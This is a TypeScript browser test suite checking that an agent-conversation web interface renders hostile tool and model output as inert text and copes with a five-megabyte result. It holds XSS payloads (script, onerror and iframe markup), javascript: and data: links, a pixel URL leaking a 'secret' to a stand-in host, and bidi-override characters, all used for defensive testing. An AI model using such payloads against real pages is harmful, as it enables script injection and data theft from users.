// What a tool or a model says is somebody else's text: markup, scripts, addresses, hidden characters, five megabytes.
// None of it acts, loads, misleads or blocks the page, with the policy enforced.
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openBrowser, openPage } from '../rig/browser.ts';
import { openWorld, type World } from '../rig/world.ts';

const markup =
  '<img src=x onerror="document.title=1"><script>document.title="owned"</script><iframe srcdoc="<script>1</script>">';
const hidden = 'pay\u202eeerf\u202c to\u200b ana\ufeff';
const said = [
  `Look: ${markup}`,
  '',
  '[safe](https://example.test/page) [bad](javascript:document.title=1) [data](data:text/html,x)',
  '',
  '![leak](https://leak.test/pixel.png?secret=1)',
  '',
  `Hidden: ${hidden}`,
].join('\n');
const megabytes = 5;
const giant = `${markup} ${hidden}\n${'line of text that goes on and on\n'.repeat(160_000)}`;

let server: Server;
let world: World;
let browser: Browser;

beforeAll(async () => {
  server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' });
    response.end(giant);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const script = {
    scenes: [
      {
        when: {},
        turns: [
          { say: said, call: [{ name: 'hostile_read', arguments: { [markup]: hidden } }] },
          { say: 'Read.' },
        ],
      },
    ],
  };
  [world, browser] = await Promise.all([
    openWorld({ alsoAllowed: [`127.0.0.1:${port}`], scripts: { hostile: script } }),
    openBrowser(),
  ]);
  await world.api('ana', 'POST', '/v1/tools', {
    name: 'hostile_read',
    description: 'Answers with trouble.',
    arguments: { type: 'object' },
    transport: { kind: 'http', method: 'GET', url: `http://127.0.0.1:${port}/` },
    contract: {
      effect: 'read',
      destination: { provider: markup, account: hidden, environment: 'test', apiVersion: '1' },
    },
  });
  await world.api('ana', 'POST', '/v1/agents', {
    name: `Hostile ${markup}`,
    prompt: markup,
    model: { provider: 'scripted', script: 'hostile' },
    tools: [{ name: 'hostile_read' }],
  });
});
afterAll(async () => {
  await browser?.close();
  await world?.close();
  server?.close();
});

test('hostile text is shown as text: nothing runs, loads or breaks the policy', async () => {
  const { page, trouble, context } = await openPage(browser);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(world.url)) foreign.push(request.url());
  });
  await page.goto(await world.address('ana'));
  await page.getByRole('link', { name: 'New conversation' }).first().click();
  const form = page.getByRole('region', { name: 'New conversation' });
  await form.getByRole('combobox', { name: 'Agent' }).selectOption({ label: `Hostile ${markup}` });
  await page.getByLabel('What is to be done?').fill(markup);
  await page.getByRole('button', { name: 'Begin' }).click();
  const log = page.getByRole('log');
  await log.getByText('Read.', { exact: true }).waitFor();
  await log.getByText('<script>document.title="owned"</script>').first().waitFor();
  expect(await page.locator('main img, main iframe, main script').count()).toBe(0);
  expect(await page.locator('a[href^="javascript"], a[href^="data"]').count()).toBe(0);
  expect(await log.getByRole('link', { name: 'safe' }).getAttribute('rel')).toContain('noopener');
  expect(await log.getByText('U+202E').count()).toBeGreaterThan(0);
  expect(await log.getByText('U+200B').count()).toBeGreaterThan(0);
  await page.goto(`${world.url}/#/agents`);
  await page.getByRole('link', { name: /Hostile/ }).click();
  await page.getByRole('heading', { name: /Hostile/ }).waitFor();
  expect(await page.title()).not.toContain('owned');
  expect(foreign).toEqual([]);
  expect(trouble).toEqual([]);
  await context.close();
});

test('five megabytes are read in pieces, and the page stays quick', async () => {
  expect(giant.length).toBeGreaterThan(megabytes * 1_000_000);
  const { page, trouble, context } = await openPage(browser);
  await page.goto(await world.address('ana'));
  await page.getByRole('link', { name: /<img/ }).first().click();
  const call = page.getByRole('article').filter({ hasText: 'hostile_read' });
  await call.locator('summary').click();
  await call.getByRole('button', { name: 'Show the whole result' }).click();
  await call.getByText(/4,000 of 5,\d{3},\d{3} characters shown/).waitFor();
  await call.getByRole('button', { name: 'Show more' }).click();
  await call.getByText(/54,000 of/).waitFor();
  const startMs = await page.evaluate(() => performance.now());
  await page.getByRole('textbox', { name: 'Message' }).fill('Still here');
  const tookMs = (await page.evaluate(() => performance.now())) - startMs;
  // The limit is for a page that lays out all of it, not for a busy machine.
  expect(tookMs).toBeLessThan(10_000);
  expect(trouble).toEqual([]);
  await context.close();
});
